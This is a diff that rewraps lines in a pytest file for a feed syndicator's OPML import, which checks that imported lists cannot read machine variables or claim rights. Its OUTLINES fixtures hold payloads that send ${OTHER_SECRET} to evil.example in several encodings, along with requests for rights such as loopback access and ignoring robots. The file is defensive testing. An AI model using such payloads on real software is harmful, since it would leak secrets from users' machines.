@@ -1,5 +1,6 @@
-"""A list of a stranger reads no variable of this machine and gives its sources no right, whatever way it comes in; the
-operator's own list brings both, if the operator says so. Every command is a process, and a server records what arrives.
+"""A list of a stranger reads no variable of this machine and gives its sources no right, whatever
+way it comes in; the operator's own list brings both, if the operator says so. Every command is a
+process, and a server records what arrives.
 """
 
 from __future__ import annotations
@@ -20,27 +21,42 @@ SECRET = "s3ntinel-of-this-machine"
 SETTINGS = '[site]\ncontact = "a@feeds.example"\n[fetch]\npause = 0\nproxy = "{proxy}"\n'
 OURS = "xmlns:s='urn:x-syndicator:opml'"
 RIGHTS = (
-    "s:key='evil' s:allow='[\"127.0.0.0/8\"]' s:speaks_for='[\"victim.example\"]' s:force='true' s:every='5m' "
-    's:headers_env=\'{"X-Key": "OTHER_SECRET"}\' s:robots="ignore" s:content="full" s:licence="CC0" s:tags=\'["Sea"]\''
+    "s:key='evil' s:allow='[\"127.0.0.0/8\"]' s:speaks_for='[\"victim.example\"]'"
+    " s:force='true' s:every='5m' s:headers_env='{\"X-Key\": \"OTHER_SECRET\"}' s:robots=\"ignore\""
+    ' s:content="full" s:licence="CC0" s:tags=\'["Sea"]\''
 )
 # An outline by name: each is one way to spell an address with a variable, or to ask for a right.
 OUTLINES = {
     "plain": "<outline text='E' xmlUrl='http://evil.example/o?x=${OTHER_SECRET}'/>",
     "in the path": "<outline text='E' xmlUrl='http://evil.example/${OTHER_SECRET}/feed'/>",
-    "entities": "<outline text='E' xmlUrl='http://evil.example/o?x=&#36;&#x7b;OTHER_SECRET&#125;'/>",
+    "entities": (
+        "<outline text='E' xmlUrl='http://evil.example/o?x=&#36;&#x7b;OTHER_SECRET&#125;'/>"
+    ),
     "percent": "<outline text='E' xmlUrl='http://evil.example/o?x=$%7BOTHER_SECRET%7d'/>",
     "name in percent": "<outline text='E' xmlUrl='http://evil.example/o?x=$%7BOTHER%5FSECRET%7D'/>",
     "tab in between": "<outline text='E' xmlUrl='http://evil.example/o?x=$&#9;{OTHER_SECRET}'/>",
     "dollar in percent": "<outline text='E' xmlUrl='http://evil.example/o?x=%24{OTHER_SECRET}'/>",
-    "another attribute": "<outline text='E' type='rss' URL='http://evil.example/o?x=${OTHER_SECRET}'/>",
-    "nested": "<outline text='A'><outline text='B'><outline text='E' xmlUrl='http://evil.example/o?x=${OTHER_SECRET}'/>"
-    "</outline></outline>",
-    "our namespace": f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/o?x=${{OTHER_SECRET}}'/>",
-    "our namespace, a tab": f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/o?x=$&#9;{{OTHER_SECRET}}'/>",
+    "another attribute": (
+        "<outline text='E' type='rss' URL='http://evil.example/o?x=${OTHER_SECRET}'/>"
+    ),
+    "nested": (
+        "<outline text='A'><outline text='B'><outline text='E'"
+        " xmlUrl='http://evil.example/o?x=${OTHER_SECRET}'/></outline></outline>"
+    ),
+    "our namespace": (
+        f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/o?x=${{OTHER_SECRET}}'/>"
+    ),
+    "our namespace, a tab": (
+        f"<outline {OURS} {RIGHTS} text='E'"
+        " xmlUrl='http://evil.example/o?x=$&#9;{OTHER_SECRET}'/>"
+    ),
     "rights": f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/feed'/>",
-    "around": "<outline text='${OTHER_SECRET}' title='${OTHER_SECRET}' category='${OTHER_SECRET}'>"
-    "<outline text='${OTHER_SECRET}' htmlUrl='http://evil.example/${OTHER_SECRET}' xmlUrl='http://evil.example/feed'/>"
-    "</outline>",
+    "around": (
+        "<outline text='${OTHER_SECRET}' title='${OTHER_SECRET}'"
+        " category='${OTHER_SECRET}'><outline text='${OTHER_SECRET}'"
+        " htmlUrl='http://evil.example/${OTHER_SECRET}'"
+        " xmlUrl='http://evil.example/feed'/></outline>"
+    ),
 }
 
 
@@ -69,7 +85,9 @@ class Following:
 
     @property
     def sources(self) -> list[dict[str, Any]]:
-        written: list[dict[str, Any]] = tomllib.loads((self.config / "sources.toml").read_text()).get("source", [])
+        written: list[dict[str, Any]] = tomllib.loads(
+            (self.config / "sources.toml").read_text()
+        ).get("source", [])
         return written
 
 
@@ -92,12 +110,17 @@ def name_given(source: Mapping[str, Any]) -> set[str]:
 def test_a_list_reads_no_variable_and_gives_no_right(following: Following, name: str) -> None:
     done = following.run("import", following.write_list(OUTLINES[name]))
     following.run("refresh", "--all")
-    assert done.returncode == 0 and not [address for address in following.web.asked if SECRET in address]
+    assert done.returncode == 0 and not [
+        address for address in following.web.asked if SECRET in address
+    ]
     assert not any(map(name_given, following.sources))
     if name in HARMLESS:
         assert len(following.sources) == 1 and following.web.asked
     else:
-        assert "list.opml line 3: E: its address names a variable of this machine, OTHER_SECRET" in done.stdout
+        assert (
+            "list.opml line 3: E: its address names a variable of this machine, OTHER_SECRET"
+            in done.stdout
+        )
         assert not following.sources and not following.web.asked
     said = following.run("check")
     assert said.returncode == 0 and "source-rights" not in said.stdout
@@ -106,13 +129,20 @@ def test_a_list_reads_no_variable_and_gives_no_right(following: Following, name:
 def test_the_rights_that_a_list_asks_for_are_named(following: Following) -> None:
     done = following.run("import", "--no-refresh", following.write_list(OUTLINES["rights"]))
     rights = "allow, content, force, headers_env, licence, robots, speaks_for"
-    assert f"not taken: {following.folder}/list.opml line 3: E: {rights}; `--trust-own`" in done.stdout
-    assert following.sources == [{"key": "evil", "url": "http://evil.example/feed", "tags": ["Sea"], "every": "5m"}]
+    assert (
+        f"not taken: {following.folder}/list.opml line 3: E: {rights}; `--trust-own`" in done.stdout
+    )
+    assert following.sources == [
+        {"key": "evil", "url": "http://evil.example/feed", "tags": ["Sea"], "every": "5m"}
+    ]
 
 
-@pytest.mark.parametrize("way", ["add a file", "add an address", "import a text", "import a folder"])
+@pytest.mark.parametrize(
+    "way", ["add a file", "add an address", "import a text", "import a folder"]
+)
 def test_no_other_way_in_is_trusted(following: Following, way: str) -> None:
-    """The list as a file and on the web; addresses as plain text; a folder of lists. (Console, API: tests/console.)"""
+    """The list as a file and on the web; addresses as plain text; a folder of lists. (Console, API:
+    tests/console.)"""
     path = following.write_list(f"{OUTLINES['rights']}\n{OUTLINES['plain']}")
     if way == "add a file":
         following.run("add", "--yes", path)
@@ -130,15 +160,20 @@ def test_no_other_way_in_is_trusted(following: Following, way: str) -> None:
         Path(path).rename(lists / "list.opml")
         following.run("import", str(lists))
     following.run("refresh", "--all")
-    assert len(following.sources) == way.startswith("add") and not any(map(name_given, following.sources))
+    assert len(following.sources) == way.startswith("add") and not any(
+        map(name_given, following.sources)
+    )
     assert not [address for address in following.web.asked if SECRET in address]
 
 
-def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(following: Following) -> None:
+def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(
+    following: Following,
+) -> None:
     path = following.config / "sources.toml"
     path.write_text(
-        '[[source]]\nkey = "mine"\nurl = "http://mine.example/o?x=${OTHER_SECRET}"\nspeaks_for = ["b.example"]\n'
-        'headers_env = { X-Key = "OTHER_SECRET" }\n[[source]]\nkey = "two"\nurl = "http://two.example/feed"\n'
+        '[[source]]\nkey = "mine"\nurl = "http://mine.example/o?x=${OTHER_SECRET}"\nspeaks_for ='
+        ' ["b.example"]\nheaders_env = { X-Key = "OTHER_SECRET" }\n[[source]]\nkey = "two"\nurl ='
+        ' "http://two.example/feed"\n'
     )
     before = following.sources
     exported = following.folder / "own.opml"
@@ -146,7 +181,10 @@ def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(followi
     path.write_text("")
     dry = following.run("import", "--dry-run", "--trust-own", str(exported)).stdout
     done = following.run("import", "--trust-own", str(exported))
-    line = 'given: mine: headers_env = { "X-Key" = "OTHER_SECRET" }, speaks_for = ["b.example"], ${OTHER_SECRET}\n'
+    line = (
+        'given: mine: headers_env = { "X-Key" = "OTHER_SECRET" }, speaks_for = ["b.example"],'
+        " ${OTHER_SECRET}\n"
+    )
     assert line in dry and line in done.stdout and "given: two" not in done.stdout
     assert following.sources == before
     assert f"http://mine.example/o?x={SECRET}" in following.web.asked
@@ -156,19 +194,30 @@ def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(followi
 
 
 def test_a_list_takes_no_feed_of_a_source_that_was_removed(following: Following) -> None:
-    """Who reads sources/victim.atom does not get a stranger's articles in it; the victim itself gets its key again."""
+    """Who reads sources/victim.atom does not get a stranger's articles in it; the victim itself
+    gets its key again."""
     victim = {"key": "victim", "url": "http://victim.example/feed"}
     following.web.answers = {
-        victim["url"]: rss("V", "http://victim.example/", [("Ferries", "http://victim.example/ferries")]),
+        victim["url"]: rss(
+            "V", "http://victim.example/", [("Ferries", "http://victim.example/ferries")]
+        ),
         "http://victim.example/ferries": story("Ferries"),
         "http://evil.example/feed": rss("E", "http://evil.example/", []),
     }
-    (following.config / "sources.toml").write_text(f'[[source]]\nkey = "victim"\nurl = "{victim["url"]}"\n')
+    (following.config / "sources.toml").write_text(
+        f'[[source]]\nkey = "victim"\nurl = "{victim["url"]}"\n'
+    )
     following.run("refresh", "--all")
     assert (following.folder / "feeds/public/sources/victim.atom").exists()
     following.run("remove", "victim")
     outline = f"<outline {OURS} s:key='victim' text='{{}}' xmlUrl='{{}}'/>"
-    following.run("import", "--no-refresh", following.write_list(outline.format("E", "http://evil.example/feed")))
+    following.run(
+        "import",
+        "--no-refresh",
+        following.write_list(outline.format("E", "http://evil.example/feed")),
+    )
     assert [source["key"] for source in following.sources] == ["evil"]
-    following.run("import", "--no-refresh", following.write_list(outline.format("V", victim["url"])))
+    following.run(
+        "import", "--no-refresh", following.write_list(outline.format("V", victim["url"]))
+    )
     assert [source["key"] for source in following.sources] == ["evil", "victim"]
